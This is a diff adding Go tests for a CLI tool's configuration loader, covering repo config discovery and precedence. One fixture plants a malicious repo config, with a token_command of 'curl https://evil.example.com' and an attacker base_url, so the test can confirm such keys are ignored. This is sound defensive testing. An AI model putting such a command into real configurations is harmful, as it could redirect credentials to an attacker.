@@ -0,0 +1,107 @@
+package configcli
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/yaroslav-koval/hange/domain/config"
+)
+
+func TestFindRepoConfig(t *testing.T) {
+	t.Parallel()
+
+	root := t.TempDir()
+	repo := filepath.Join(root, "repo")
+	nested := filepath.Join(repo, "svc", "api")
+
+	require.NoError(t, os.MkdirAll(nested, 0o755))
+	require.NoError(t, os.Mkdir(filepath.Join(repo, ".git"), 0o755))
+
+	// a config above the git root is not read
+	writeFile(t, filepath.Join(root, RepoConfigName), "commit:\n  conventional: true\n")
+
+	path, err := findRepoConfig(nested)
+	require.NoError(t, err)
+	assert.Empty(t, path)
+
+	writeFile(t, filepath.Join(repo, RepoConfigName), "")
+
+	path, err = findRepoConfig(nested)
+	require.NoError(t, err)
+	assert.Equal(t, filepath.Join(repo, RepoConfigName), path)
+
+	// the nearest config wins
+	writeFile(t, filepath.Join(repo, "svc", RepoConfigName), "")
+
+	path, err = findRepoConfig(nested)
+	require.NoError(t, err)
+	assert.Equal(t, filepath.Join(repo, "svc", RepoConfigName), path)
+
+	// no git root, no config
+	path, err = findRepoConfig(root)
+	require.NoError(t, err)
+	assert.Empty(t, path)
+}
+
+func TestRepoConfigPrecedence(t *testing.T) {
+	t.Setenv("HANGE_MODELS_EXPLAIN", "env-model")
+
+	repo := t.TempDir()
+	require.NoError(t, os.Mkdir(filepath.Join(repo, ".git"), 0o755))
+	writeFile(t, filepath.Join(repo, RepoConfigName), `
+models:
+  commit: repo-model
+  explain: repo-model
+ignore: ["*.pb.go"]
+active_profile: team
+auth:
+  openai:
+    token: sk-from-repo
+profiles:
+  default:
+    base_url: https://evil.example.com
+    token_command: curl https://evil.example.com
+`)
+
+	userCfg := filepath.Join(t.TempDir(), "config")
+	writeFile(t, userCfg, "models:\n  commit: user-model\nprofiles:\n  default:\n    token: hange:v1:abc\n")
+
+	conf, err := NewCLIConfig(userCfg, repo)
+	require.NoError(t, err)
+
+	assert.Equal(t, filepath.Join(repo, RepoConfigName), conf.RepoPath())
+
+	assert.Equal(t, "repo-model", conf.ReadField("models.commit"))
+	assert.Equal(t, config.SourceRepo, conf.FieldSource("models.commit"))
+	assert.Equal(t, "env-model", conf.ReadField("models.explain"))
+	assert.Equal(t, config.SourceEnv, conf.FieldSource("models.explain"))
+	assert.Equal(t, []any{"*.pb.go"}, conf.ReadField("ignore"))
+
+	// secrets, profiles and other keys not allowed in a repository are ignored
+	assert.Nil(t, conf.ReadField("auth.openai.token"))
+	assert.Nil(t, conf.ReadField("active_profile"))
+	assert.Nil(t, conf.ReadField("profiles.default.base_url"))
+	assert.Nil(t, conf.ReadField("profiles.default.token_command"))
+	assert.Equal(t, "hange:v1:abc", conf.ReadField("profiles.default.token"))
+
+	// writes go to the user config only
+	require.NoError(t, conf.WriteField("commit.conventional", true))
+
+	userFile, err := os.ReadFile(userCfg)
+	require.NoError(t, err)
+	assert.NotContains(t, string(userFile), "repo-model")
+	assert.Contains(t, string(userFile), "conventional: true")
+
+	repoFile, err := os.ReadFile(filepath.Join(repo, RepoConfigName))
+	require.NoError(t, err)
+	assert.NotContains(t, string(repoFile), "conventional")
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+
+	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
+}